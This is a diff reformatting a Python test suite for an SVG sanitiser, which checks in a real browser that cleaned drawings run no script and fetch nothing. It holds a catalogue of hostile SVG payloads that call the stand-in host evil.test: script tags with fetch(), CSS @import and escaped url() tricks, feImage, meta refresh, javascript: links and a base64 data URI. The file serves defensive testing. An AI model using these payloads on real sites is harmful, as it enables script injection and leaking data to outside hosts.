@@ -1,4 +1,4 @@
-"""Cleaning drawings: what is hostile is gone in a real browser, what draws is drawn as before."""
+"""Cleaned drawings: hostile parts are gone in a real browser, the rest draws as before."""
 
 from __future__ import annotations
 
@@ -18,7 +18,8 @@ from quizgen.media.css import properties_of, rules_of
 from quizgen.media.svg import MAX_ELEMENTS, SvgError, clean_svg
 
 HEAD = (
-    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40"'
+    '<svg xmlns="http://www.w3.org/2000/svg" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40"'
     ' width="60" height="40">'
 )
 OUT = "http://evil.test/"
@@ -26,7 +27,7 @@ RUN = "fetch('http://evil.test/ran')"
 LOAD = base64.b64encode(
     f'{HEAD}<script>{RUN}</script><image href="{OUT}x"/></svg>'.encode()
 ).decode()
-# What a browser runs or fetches of these when it opens them as they are stands first, then what it does not.
+# First the drawings that a browser runs or fetches from as stored, then the others.
 RUNNING = {
     "script": f"<script>{RUN}</script>",
     "script-cdata": f"<script><![CDATA[{RUN}]]></script>",
@@ -52,14 +53,21 @@ RUNNING = {
     "html-img": f'<img xmlns="http://www.w3.org/1999/xhtml" src="{OUT}i"/>',
     "html-video": f'<video xmlns="http://www.w3.org/1999/xhtml" src="{OUT}v" autoplay="autoplay"/>',
     "html-link": f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{OUT}s.css"/>',
-    "html-meta": f'<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={OUT}"/>',
+    "html-meta": (
+        f'<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={OUT}"/>'
+    ),
     "image-http": f'<image href="{OUT}i.png" width="60" height="40"/>',
     "image-xlink": f'<image xlink:href="{OUT}i.png" width="60" height="40"/>',
     "image-relative": '<image href="//evil.test/i.png" width="60" height="40"/>',
-    "image-set-later": f'<image width="6" height="6"><set attributeName="href" to="{OUT}i.png"/></image>',
+    "image-set-later": (
+        f'<image width="6" height="6"><set attributeName="href" to="{OUT}i.png"/></image>'
+    ),
     "style-import": f'<style>@import url("{OUT}a.css");</style>',
     "style-import-text": f'<style>@import "{OUT}a.css";</style>',
-    "style-font": f'<style>@font-face{{font-family:f;src:url({OUT}f)}}</style><text y="9" font-family="f">a</text>',
+    "style-font": (
+        f"<style>@font-face{{font-family:f;src:url({OUT}f)}}</style>"
+        '<text y="9" font-family="f">a</text>'
+    ),
     "style-background": f"<style>svg{{background:url({OUT}b)}}</style>",
     "style-escaped": f"<style>svg{{background:u\\72l({OUT}b)}}</style>",
     "style-image-set": f"<style>svg{{background:image-set('{OUT}b' 1x)}}</style>",
@@ -67,15 +75,19 @@ RUNNING = {
     "style-media": f"<style>@media all{{svg{{background:url({OUT}b)}}}}</style>",
     "style-cdata": f"<style><![CDATA[svg{{background:url({OUT}b)}}]]></style>",
     "style-mask-attribute": f'<rect width="9" height="9" style="mask-image:url({OUT}m)"/>',
-    "style-html": f'<style xmlns="http://www.w3.org/1999/xhtml">svg{{background:url({OUT}b)}}</style>',
+    "style-html": (
+        f'<style xmlns="http://www.w3.org/1999/xhtml">svg{{background:url({OUT}b)}}</style>'
+    ),
     "fe-image": (
-        f'<filter id="f"><feImage href="{OUT}fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
+        f'<filter id="f"><feImage href="{OUT}fe.png"/></filter>'
+        '<rect width="9" height="9" filter="url(#f)"/>'
     ),
 }
 IDLE = {
     "link-script": f'<a href="javascript:{RUN}"><rect width="60" height="40"/></a>',
     "link-animated": (
-        f'<a id="a"><rect width="60" height="40"/></a><set href="#a" attributeName="href" to="javascript:{RUN}"/>'
+        '<a id="a"><rect width="60" height="40"/></a>'
+        f'<set href="#a" attributeName="href" to="javascript:{RUN}"/>'
     ),
     "use-http": f'<use href="{OUT}u.svg#a"/>',
     "use-data": f'<use href="data:image/svg+xml;base64,{LOAD}#a"/>',
@@ -106,7 +118,7 @@ def page() -> Iterator[Page]:
 
 
 def fetched(page: Page, drawings: Mapping[str, bytes]) -> list[str]:
-    """Return what a browser asks for when it opens each drawing in a frame of its own, and clicks its links."""
+    """Return a browser's requests when it opens each drawing in a frame and clicks its links."""
     asked: list[str] = []
 
     def answer(route: Route) -> None:
@@ -125,9 +137,10 @@ def fetched(page: Page, drawings: Mapping[str, bytes]) -> list[str]:
     for frame in page.frames[1:]:
         with suppress(Error):
             frame.evaluate(
-                "document.querySelectorAll('a').forEach(a => a.dispatchEvent(new MouseEvent('click')))"
+                "document.querySelectorAll('a').forEach(a => "
+                "a.dispatchEvent(new MouseEvent('click')))"
             )
-    # What a page asks for is known by the time that it has been drawn twice.
+    # By the second time it has been drawn, a page has made its requests.
     page.evaluate(
         "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
     )
@@ -136,7 +149,7 @@ def fetched(page: Page, drawings: Mapping[str, bytes]) -> list[str]:
 
 
 def hostile() -> dict[str, bytes]:
-    """Return the hostile drawings by name; what they fetch tells which of them it was."""
+    """Return the hostile drawings by name. Each fetches an address that identifies it."""
     kept = '<rect id="kept" width="5" height="5"/>'
     whole = ROOTS | {name: f"{HEAD}{inner}{kept}</svg>" for name, inner in (RUNNING | IDLE).items()}
     return {
@@ -157,7 +170,7 @@ def test_hostile_drawings_run_and_fetch_nothing(page: Page) -> None:
 
 
 def test_the_browser_would_run_and_fetch_them(page: Page) -> None:
-    """Without cleaning, what is called running here does; or the test above would show nothing."""
+    """Without cleaning, the drawings named as running here do run: the test above can fail."""
     asked = fetched(page, hostile())
     assert {
         name for name in RUNNING if not any(f"evil.test/{name}/" in url for url in asked)
@@ -185,8 +198,10 @@ def test_what_was_taken_out_is_told() -> None:
 def test_filters_are_left_out_and_what_they_blur_is_drawn() -> None:
     clean = clean_svg(
         svg(
-            '<filter id="s"><feGaussianBlur stdDeviation="2"/></filter><style>.a{filter:url(#s)}</style>'
-            '<rect class="a" filter="url(#s)" style="fill:red;filter:url(#s)" width="30" height="20"/>'
+            '<filter id="s"><feGaussianBlur stdDeviation="2"/></filter>'
+            "<style>.a{filter:url(#s)}</style>"
+            '<rect class="a" filter="url(#s)" style="fill:red;'
+            'filter:url(#s)" width="30" height="20"/>'
         )
     )
     assert b"filter" not in clean.data
@@ -196,11 +211,14 @@ def test_filters_are_left_out_and_what_they_blur_is_drawn() -> None:
 
 BENIGN = {
     "shapes": (
-        '<rect width="30" height="20" fill="#c33" stroke="navy" stroke-width="2"/><circle cx="40" cy="20" r="12"'
-        ' style="fill:rgb(10,120,80);opacity:.8"/><path d="M5 35 C 20 5, 40 5, 55 35" fill="none" stroke="#000"/>'
+        '<rect width="30" height="20" fill="#c33" stroke="navy" stroke-width="2"/>'
+        '<circle cx="40" cy="20" r="12"'
+        ' style="fill:rgb(10,120,80);opacity:.8"/>'
+        '<path d="M5 35 C 20 5, 40 5, 55 35" fill="none" stroke="#000"/>'
     ),
     "gradient": (
-        '<defs><linearGradient id="a"><stop offset="0" stop-color="#f00"/><stop offset="1" stop-color="#00f"/>'
+        '<defs><linearGradient id="a"><stop offset="0" stop-color="#f00"/>'
+        '<stop offset="1" stop-color="#00f"/>'
         '</linearGradient><linearGradient id="b" xlink:href="#a" x2="0" y2="1"/></defs>'
         '<rect width="60" height="40" fill="url(#b)"/>'
     ),
@@ -209,14 +227,20 @@ BENIGN = {
         '<g class="st0"><rect width="60" height="20"/></g><line class="st1" x2="60" y2="40"/>'
     ),
     "use-and-clip": (
-        '<defs><path id="star" d="M8 0l2 6h6l-5 4 2 6-5-4-5 4 2-6-5-4h6z"/><clipPath id="c"><circle cx="30" cy="20"'
-        ' r="15"/></clipPath></defs><g clip-path="url(#c)"><rect width="60" height="40" fill="teal"/>'
+        '<defs><path id="star" d="M8 0l2 6h6l-5 4 2 6-5-4-5 4 2-6-5-4h6z"/>'
+        '<clipPath id="c"><circle cx="30" cy="20"'
+        ' r="15"/></clipPath></defs><g clip-path="url(#c)">'
+        '<rect width="60" height="40" fill="teal"/>'
         '<use xlink:href="#star" x="22" y="12" fill="#fff"/></g>'
     ),
-    "text": '<text x="4" y="24" font-size="14" font-family="sans-serif">H<tspan dy="4" font-size="8">2</tspan>O</text>',
+    "text": (
+        '<text x="4" y="24" font-size="14" font-family="sans-serif">H<tspan '
+        'dy="4" font-size="8">2</tspan>O</text>'
+    ),
     "link": '<a href="https://example.org"><rect width="20" height="20" fill="purple"/></a>',
     "pattern": (
-        '<pattern id="p" width="6" height="6" patternUnits="userSpaceOnUse"><circle cx="3" cy="3" r="2"/></pattern>'
+        '<pattern id="p" width="6" height="6" patternUnits="userSpaceOnUse">'
+        '<circle cx="3" cy="3" r="2"/></pattern>'
         '<rect width="60" height="40" fill="url(#p)"/>'
     ),
     "embedded": '<image width="60" height="40" xlink:href="data:image/png;base64,PNG"/>',
@@ -317,7 +341,7 @@ def test_refused(name: str) -> None:
 
 
 def test_long_runs_end() -> None:
-    """Whatever fills a file, cleaning takes time in proportion; work that grows with the square would not end."""
+    """Cleaning takes time in proportion to the file; quadratic work would not end."""
     run = 100_000
     fillers = [
         "a",
